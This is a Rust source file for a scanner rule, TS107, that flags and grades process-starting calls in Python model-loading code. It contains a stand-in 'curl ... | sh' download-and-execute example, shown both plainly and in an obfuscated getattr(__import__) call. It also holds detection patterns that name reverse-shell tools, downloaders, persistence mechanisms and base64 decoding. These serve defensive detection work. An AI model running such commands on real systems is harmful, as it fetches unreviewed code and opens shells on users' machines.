use super::support::{self, Folder, UNKNOWN};
use crate::resolve::Resolver;
use crate::rules::{Issue, Options, Rule, rule};
use crate::walk::Ctx;
use trustscan_core::Level::{self, High, Low, Medium};
use trustscan_pyparse::syntax::{self as ast, Expr};

rule! {
    /// TS107 process_execution.
    ///
    /// ## What it does
    /// Reports code that starts processes: `subprocess` (`Popen`, `run`, `call`, `check_call`,
    /// `check_output`, `getoutput`, `getstatusoutput`), `os.system`, `os.popen`, the `os.exec*`,
    /// `os.spawn*` and `os.posix_spawn*` families, `os.startfile`, `pty.spawn`,
    /// `commands.getoutput`, `asyncio.create_subprocess_exec`/`_shell` and `pexpect`, plus
    /// pip's in-process entry points (`pip.main`, `pip._internal.main`). Aliases, `getattr`,
    /// `__import__` and string folding are seen through, and the command is folded (lists
    /// joined, f-strings with unknown parts shown as `…`) so the finding is graded by what it
    /// runs: installing packages, cloning repositories, downloading, piping into a shell,
    /// opening a network shell, persistence and decoded commands are High; any other command
    /// Medium; well-known read-only diagnostics (`nvidia-smi`, `git rev-parse`) Low.
    /// `shell=True` is noted.
    ///
    /// ## Why is this bad?
    /// Code that runs when a model loads has the user's privileges; a child process escapes
    /// whatever the Python code appears to do (CWE-78). Installing packages at load time changes
    /// the user's environment with code nobody reviewed, and downloads fetch code the scan never
    /// sees. Bandit's B60x rules flag process calls in general; this rule grades them for model
    /// loading and sees through the obfuscation payloads use.
    ///
    /// ## Example
    /// ```python
    /// os.system("pip install example-package")
    /// getattr(__import__("o" + "s"), "system")("curl https://example.invalid/x | sh")
    /// ```
    pub struct ProcessExecution {
        id: "TS107",
        name: "process_execution",
        cwe: 78,
        severity: Medium,
        confidence: High,
        kinds: [Call],
        example: "os.system(\"pip install example-package\")",
    }
}

/// Functions that start a process, with how their command is passed.
const SINKS: &[(&str, Cmd)] = &[
    ("subprocess.Popen", Cmd::Args),
    ("subprocess.run", Cmd::Args),
    ("subprocess.call", Cmd::Args),
    ("subprocess.check_call", Cmd::Args),
    ("subprocess.check_output", Cmd::Args),
    ("subprocess.getoutput", Cmd::Shell),
    ("subprocess.getstatusoutput", Cmd::Shell),
    ("os.system", Cmd::Shell),
    ("os.popen", Cmd::Shell),
    ("os.popen2", Cmd::Shell),
    ("os.popen3", Cmd::Shell),
    ("os.popen4", Cmd::Shell),
    ("popen2.popen2", Cmd::Shell),
    ("popen2.popen3", Cmd::Shell),
    ("popen2.popen4", Cmd::Shell),
    ("commands.getoutput", Cmd::Shell),
    ("commands.getstatusoutput", Cmd::Shell),
    ("os.execl", Cmd::Argv),
    ("os.execle", Cmd::Argv),
    ("os.execlp", Cmd::Argv),
    ("os.execlpe", Cmd::Argv),
    ("os.execv", Cmd::Argv),
    ("os.execve", Cmd::Argv),
    ("os.execvp", Cmd::Argv),
    ("os.execvpe", Cmd::Argv),
    ("os.spawnl", Cmd::Argv),
    ("os.spawnle", Cmd::Argv),
    ("os.spawnlp", Cmd::Argv),
    ("os.spawnlpe", Cmd::Argv),
    ("os.spawnv", Cmd::Argv),
    ("os.spawnve", Cmd::Argv),
    ("os.spawnvp", Cmd::Argv),
    ("os.spawnvpe", Cmd::Argv),
    ("os.posix_spawn", Cmd::Argv),
    ("os.posix_spawnp", Cmd::Argv),
    ("os.startfile", Cmd::Args),
    ("pty.spawn", Cmd::Args),
    ("asyncio.create_subprocess_exec", Cmd::Argv),
    ("asyncio.subprocess.create_subprocess_exec", Cmd::Argv),
    ("asyncio.create_subprocess_shell", Cmd::Shell),
    ("asyncio.subprocess.create_subprocess_shell", Cmd::Shell),
    ("pexpect.spawn", Cmd::Args),
    ("pexpect.run", Cmd::Args),
];

/// pip's in-process entry points: calling them installs packages into the running
/// interpreter's environment.
const PIP_MAINS: &[&str] = &[
    "pip.main",
    "pip._internal.main",
    "pip._internal.main.main",
    "pip._internal.cli.main.main",
];

/// The last names of every sink, to skip other method calls before resolving.
static LAST_NAMES: crate::rules::Names = crate::rules::Names::new(&[
    "Popen",
    "run",
    "call",
    "check_call",
    "check_output",
    "getoutput",
    "getstatusoutput",
    "system",
    "popen",
    "popen2",
    "popen3",
    "popen4",
    "execl",
    "execle",
    "execlp",
    "execlpe",
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "spawnl",
    "spawnle",
    "spawnlp",
    "spawnlpe",
    "spawnv",
    "spawnve",
    "spawnvp",
    "spawnvpe",
    "posix_spawn",
    "posix_spawnp",
    "startfile",
    "spawn",
    "create_subprocess_exec",
    "create_subprocess_shell",
    "main",
]);

#[derive(Clone, Copy, PartialEq, Eq)]
enum Cmd {
    /// `args` (first argument or keyword): a string or a list.
    Args,
    /// A shell command string (first argument).
    Shell,
    /// Program and arguments spread over the positional arguments.
    Argv,
}

impl Rule for ProcessExecution {
    fn method_names(&self) -> Option<Vec<&'static str>> {
        Some(LAST_NAMES.last_parts())
    }

    fn check(&self, ctx: &Ctx, _options: &Options) -> Option<Issue> {
        let call = ctx.call()?;
        if !support::may_be(call, &LAST_NAMES) {
            return None;
        }
        let r = Resolver::new(ctx);
        let f = r.callee(&call.func);
        let folder = Folder::new(ctx, &r);
        if PIP_MAINS.contains(&f.as_str()) {
            let args = call
                .arguments
                .args
                .first()
                .and_then(|a| folder.text(a))
                .map(|t| format!(" with `{}`", support::display(&t)))
                .unwrap_or_default();
            return Some(Issue::new(
                High,
                High,
                format!(
                    "{f} called{args}: runs pip in-process, which installs packages into the running interpreter \
                     when the model loads, with code nobody reviewed."
                ),
            ));
        }
        let (_, how) = SINKS.iter().find(|(name, _)| *name == f)?;
        let inputs = command_inputs(call, &f, *how);
        let text = command_text(&folder, &inputs);
        let shell = *how == Cmd::Shell
            || call.arguments.find_keyword("shell").is_some_and(|k| {
                !matches!(&k.value, Expr::BooleanLiteral(b) if !b.value)
                    && !matches!(&k.value, Expr::NoneLiteral(_))
            });
        let shell_note = if shell && *how != Cmd::Shell {
            " with shell=True"
        } else {
            ""
        };
        let decoded = inputs.iter().find_map(|e| r.decoded_source(e));
        let (severity, why) = match (&decoded, &text) {
            (Some(src), _) => (
                High,
                format!("the command comes out of {src}, hidden from review"),
            ),
            (None, Some(t)) => match grade(t) {
                Some((level, why)) => (level, why.to_string()),
                None => (
                    Medium,
                    "a process started while the model loads runs with the user's privileges"
                        .to_string(),
                ),
            },
            (None, None) => (
                Medium,
                "the command is built at runtime, so what runs cannot be read here".to_string(),
            ),
        };
        let shown = text
            .as_deref()
            .map(|t| format!(" `{}`", support::display(t)))
            .unwrap_or_default();
        Some(Issue::new(
            severity,
            High,
            format!("{f} runs{shown}{shell_note}: {why}."),
        ))
    }
}

/// The expressions that make up the command.
fn command_inputs<'a>(call: &'a ast::ExprCall, f: &str, how: Cmd) -> Vec<&'a Expr> {
    let a = &call.arguments;
    match how {
        Cmd::Args => a.find_argument_value("args", 0).into_iter().collect(),
        Cmd::Shell => a
            .find_argument_value("cmd", 0)
            .or_else(|| a.find_argument_value("command", 0))
            .into_iter()
            .collect(),
        Cmd::Argv => {
            // `os.spawn*` take a mode first; the `*e` variants an environment last.
            let skip = usize::from(f.starts_with("os.spawn"));
            let mut v: Vec<&Expr> = a.args.iter().skip(skip).collect();
            if f.ends_with('e') && v.len() > 1 {
                v.pop();
            }
            v
        }
    }
}

fn command_text<'a>(folder: &Folder<'_, '_, '_, 'a>, inputs: &[&'a Expr]) -> Option<String> {
    let parts: Vec<String> = inputs
        .iter()
        .map(|e| folder.text(e).unwrap_or_else(|| UNKNOWN.to_string()))
        .collect();
    if parts.iter().all(|p| p == UNKNOWN) {
        return None;
    }
    Some(parts.join(" "))
}

/// Grade a folded command by what it does.
fn grade(cmd: &str) -> Option<(Level, &'static str)> {
    let lower = cmd.to_ascii_lowercase();
    // Tokens with program paths reduced to their names (`/usr/bin/pip` → `pip`).
    let tokens: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '`' | '"'))
        .filter(|t| !t.is_empty())
        .map(|t| {
            if t.contains("://") {
                t
            } else {
                t.rsplit('/').next().unwrap_or(t)
            }
        })
        .collect();
    let norm = format!(" {} ", tokens.join(" "));
    let has = |pats: &[&str]| pats.iter().any(|p| norm.contains(p));
    if has(&[
        " pip install ",
        " pip3 install ",
        " pip2 install ",
        " -m pip ",
        " uv pip ",
        " uv add ",
        " pipx install ",
        " easy_install ",
        " setup.py install ",
        " setup.py develop ",
        " conda install ",
        " mamba install ",
        " micromamba install ",
        " poetry add ",
        " apt-get ",
        " apt install ",
        " yum install ",
        " dnf install ",
        " apk add ",
        " brew install ",
        " npm install ",
        " npm i ",
        " yarn add ",
        " pnpm add ",
        " gem install ",
        " cargo install ",
        " go install ",
        " go get ",
    ]) {
        return Some((
            High,
            "installs packages at runtime: the user's environment changes with code nobody \
             reviewed",
        ));
    }
    if has(&[
        " git clone ",
        " git pull ",
        " git fetch ",
        " git submodule ",
    ]) {
        return Some((
            High,
            "fetches a repository at runtime: code from outside the model repository arrives \
             unreviewed",
        ));
    }
    if lower.contains("/dev/tcp/")
        || has(&[
            " nc ",
            " ncat ",
            " netcat ",
            " socat ",
            " bash -i ",
            " sh -i ",
        ])
    {
        return Some((High, "opens a network connection to a shell"));
    }
    if has(&["| sh ", "| bash ", "| python", "|sh ", "|bash ", "| zsh "])
        || lower.contains("|sh")
        || lower.contains("|bash")
    {
        return Some((High, "pipes data into an interpreter"));
    }
    if has(&[
        " curl ",
        " wget ",
        " invoke-webrequest ",
        " iwr ",
        " certutil ",
        " bitsadmin ",
        " scp ",
        " huggingface-cli download ",
        " hf download ",
    ]) || lower.contains("downloadstring")
        || lower.contains("downloadfile")
    {
        return Some((High, "downloads data at runtime, out of sight of this scan"));
    }
    if has(&[
        " crontab ",
        " systemctl ",
        " launchctl ",
        " schtasks ",
        " reg add ",
        " sudo ",
        " chmod +s ",
    ]) || lower.contains(".bashrc")
        || lower.contains(".profile")
        || lower.contains("authorized_keys")
    {
        return Some((
            High,
            "installs persistence or raises privileges on the user's machine",
        ));
    }
    if has(&[" base64 -d", " base64 --decode", " xxd -r"]) {
        return Some((High, "decodes hidden data in the shell"));
    }
    let first = tokens.first().copied().unwrap_or("");
    let second = tokens.get(1).copied().unwrap_or("");
    let diagnostic = matches!(
        first,
        "nvidia-smi"
            | "rocm-smi"
            | "nvcc"
            | "uname"
            | "lscpu"
            | "nproc"
            | "ldconfig"
            | "free"
            | "which"
            | "where"
            | "hostname"
    ) || (first == "git"
        && matches!(second, "rev-parse" | "describe" | "status" | "log" | "diff"))
        || tokens
            .get(1..)
            .is_some_and(|rest| matches!(rest, ["--version"] | ["-version"] | ["-v"]));
    if diagnostic {
        return Some((
            Low,
            "a read-only diagnostic command, but still a process started at load time",
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn grades() {
        assert_eq!(grade("pip install x").map(|g| g.0), Some(High));
        assert_eq!(
            grade("/usr/bin/python3 -m pip install x").map(|g| g.0),
            Some(High)
        );
        assert_eq!(
            grade("curl -s https://example.invalid/x | sh").map(|g| g.0),
            Some(High)
        );
        assert_eq!(grade("nvidia-smi -L").map(|g| g.0), Some(Low));
        assert_eq!(grade("ls -la"), None);
        assert_eq!(grade("pipeline"), None);
    }
}
